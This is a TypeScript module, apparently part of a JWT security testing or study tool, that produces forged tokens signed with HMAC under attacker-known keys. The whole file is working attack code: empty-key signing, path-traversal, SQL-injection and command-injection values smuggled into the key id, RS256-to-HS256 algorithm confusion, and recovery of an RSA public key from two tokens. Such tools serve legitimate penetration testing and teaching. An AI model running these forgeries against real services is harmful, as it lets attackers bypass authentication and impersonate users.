import { signatureAlgorithm } from '../algorithms/signatures';
import { encodeBase64url } from '../decode/base64url';
import { decodeToken } from '../decode/find';
import { digest, HmacOfMessage } from '../hash/hmac';
import { pem, toBase64 } from '../keys/derWrite';
import { publicDer, rsaPublicDer } from '../keys/encode';
import { publicPart } from '../keys/jwk';
import { readKey } from '../keys/read';
import type { JsonObject } from '../model';
import { recoverModulus } from '../recover/rsa';
import type { Problem } from '../sign/sign';
import { signingInput } from '../verify/hmac';
import type { Forged, Forgery, Parts } from './forge';
import { inputOf } from './plain';

const encoder = new TextEncoder();
/** The key that the forged key ids lead to. */
const KNOWN_KEY = 'session-tutor-study-key';

/** Signs with HS256 and a key that the attacker knows. */
function hs256(parts: Parts, header: object, key: string, label: string): Forged {
  const input = inputOf(parts, { ...parts.header, alg: 'HS256', ...header });
  const tag = new HmacOfMessage('SHA-256', encoder.encode(input)).tag(encoder.encode(key));
  return { label, token: `${input}.${encodeBase64url(tag)}` };
}

const emptyKey: Forgery = async (parts) => [hs256(parts, {}, '', 'no key')];

const kidPath: Forgery = async (parts) =>
  ['../../../../../../../dev/null', '/dev/null', '..\\..\\..\\..\\..\\NUL'].map((kid) =>
    hs256(parts, { kid }, '', kid),
  );

const kidSql: Forgery = async (parts) =>
  [`none' UNION SELECT '${KNOWN_KEY}' -- `, `none" UNION SELECT "${KNOWN_KEY}" -- `].map((kid) =>
    hs256(parts, { kid }, KNOWN_KEY, kid.startsWith("none'") ? "quotation marks '" : 'quotation marks "'),
  );

const kidCommand: Forgery = async (parts) =>
  [`none; printf ${KNOWN_KEY}`, `none | printf ${KNOWN_KEY}`].map((kid) =>
    hs256(parts, { kid }, KNOWN_KEY, kid),
  );

const confusion: Forgery = async (parts, { publicKey }) => {
  const material = readKey(publicKey ?? '');
  if (material.kind === 'unreadable') return { problem: material.reason };
  if (material.kind !== 'jwk' || material.jwk.kty === 'oct') {
    return { problem: 'Give one public key (PEM, JWK or certificate), not a secret and not a set.' };
  }
  return confused(parts, publicPart(material.jwk), material.source);
};

/** The forms of a public key that servers hand to their library as they are. */
function confused(parts: Parts, jwk: JsonObject, source?: string): readonly Forged[] | Problem {
  const spki = publicDer(jwk);
  if (!spki) return { problem: 'The public key is of a kind that has no PEM here.' };
  const text = pem(toBase64(spki), 'PUBLIC KEY', 64);
  const pkcs1 = rsaPublicDer(jwk);
  const forms: (readonly [label: string, key: string])[] = [];
  if (source !== undefined && source !== text) forms.push(['as it was given', source]);
  forms.push(['PEM', text], ['PEM without the last line break', text.trimEnd()]);
  if (pkcs1) {
    const old = pem(toBase64(pkcs1), 'RSA PUBLIC KEY', 64);
    forms.push(['PEM of PKCS #1', old], ['PEM of PKCS #1 without the last line break', old.trimEnd()]);
  }
  forms.push(['JWK', JSON.stringify(jwk)]);
  return forms.map(([label, key]) => hs256(parts, {}, key, label));
}

const recovered: Forgery = async (parts, { issued = '', secondToken = '' }) => {
  const [first, second] = [issued, secondToken].map((text) => {
    const token = decodeToken(text);
    const alg = token.header?.alg;
    const signature = token.segments.find(({ name }) => name === 'signature')?.bytes;
    if (!signature?.length || typeof alg !== 'string' || !/^RS\d{3}$/.test(alg) || !signatureAlgorithm(alg))
      return undefined;
    return { signature, digest: digest(`SHA-${alg.slice(2)}` as 'SHA-256', signingInput(token)) };
  });
  if (!first || !second) return { problem: 'Both tokens must be signed with RS256, RS384 or RS512.' };
  const key = recoverModulus(first, second);
  if (!key) {
    return {
      problem:
        'No key with exponent 3 or 5 made both tokens. With 65537, the usual one, the numbers have 134 million bits, and their common divisor takes a tool made for it.',
    };
  }
  return confused(parts, { kty: 'RSA', n: encodeBase64url(key.n), e: encodeBase64url(key.e) });
};

/** Attacks that end in an HMAC under a key that the attacker knows. */
export const hmacForgeries = {
  'empty-key': emptyKey,
  'kid-path': kidPath,
  'kid-sql': kidSql,
  'kid-command': kidCommand,
  'algorithm-confusion': confusion,
  'recovered-key': recovered,
} satisfies Record<string, Forgery>;
